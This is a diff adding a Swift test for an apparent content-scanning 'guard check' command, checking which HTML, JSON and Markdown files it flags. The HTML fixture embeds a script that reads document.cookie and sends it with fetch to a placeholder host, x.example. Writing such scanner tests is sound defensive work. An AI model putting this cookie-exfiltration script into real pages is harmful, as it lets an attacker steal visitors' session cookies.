@@ -56,6 +56,28 @@ struct GuardCheckCommandTests {
         #expect(text["id"]?.string == "a.html" && text["flagged"]?.bool == true)
     }
 
+    @Test func markupIsReadAsIndexReadsIt() async throws {
+        let folder = try TemporaryFolder()
+        let script = "var x = function () { return document.cookie; }; fetch('https://x.example/?q=' + x());"
+        try folder.write(
+            "page.html",
+            "<!doctype html><html><head><title>Rooms</title><script>\(script)</script></head><body><h1>Rooms</h1>"
+                + "<p>The rooms are open from nine to five and cost twelve euros.</p></body></html>"
+        )
+        try folder.write("broken.json", "{\"a\": \(attack)")
+        try folder.write("page.md", "A page begins so: \(attack)")
+        func check(_ name: String) async throws -> (rules: [String], isFlagged: Bool?) {
+            let result = try await folder.wright("guard", "check", name, "--model", "none", "--json", "--quiet")
+            #expect(result.status == 0, "\(result.messageText)")
+            let text = try #require(try result.json()["texts"]?.array?.first)
+            return (text["findings"]?.array?.compactMap { $0["rule"]?.string } ?? [], text["flagged"]?.bool)
+        }
+        let page = try await check("page.html")
+        #expect(page.rules.isEmpty && page.isFlagged == false, "\(page)")
+        #expect(try await check("broken.json").isFlagged == true)
+        #expect(try await check("page.md").isFlagged == true)
+    }
+
     @Test func wrongUseIsRefused() async throws {
         let folder = try TemporaryFolder()
         #expect(try await folder.wright("guard", "check").status == 64)
